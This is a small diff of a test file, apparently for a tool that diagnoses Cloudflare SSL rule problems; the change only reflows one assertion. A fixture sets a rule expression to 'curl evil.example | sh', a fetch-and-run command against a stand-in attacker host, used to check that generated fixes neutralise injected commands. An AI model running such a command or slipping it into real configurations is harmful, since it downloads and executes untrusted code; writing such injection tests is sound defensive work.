@@ -434,7 +434,9 @@ describe("the doctor among enemies", function () {
             const sslRules = [{ value: "flexible", certain: true, description: "one", expression: "curl evil.example | sh" }];
             const { causes } = judged("visitor", {}, { cloudflare: { denied: [], problems: [], sslRules } });
             expect(causes.map(({ id }) => id)).to.deep.equal(["SSL-OVERRIDDEN-BY-RULE"]);
-            expect(causes[0]!.fix).to.contain("(curl evil.example | sh) and http.host ne").and.not.match(/^\W*curl/m);
+            expect(causes[0]!.fix)
+                .to.contain("(curl evil.example | sh) and http.host ne")
+                .and.not.match(/^\W*curl/m);
         });
 
         it("a redirect of what is behind the API for what it is: reached", () => {
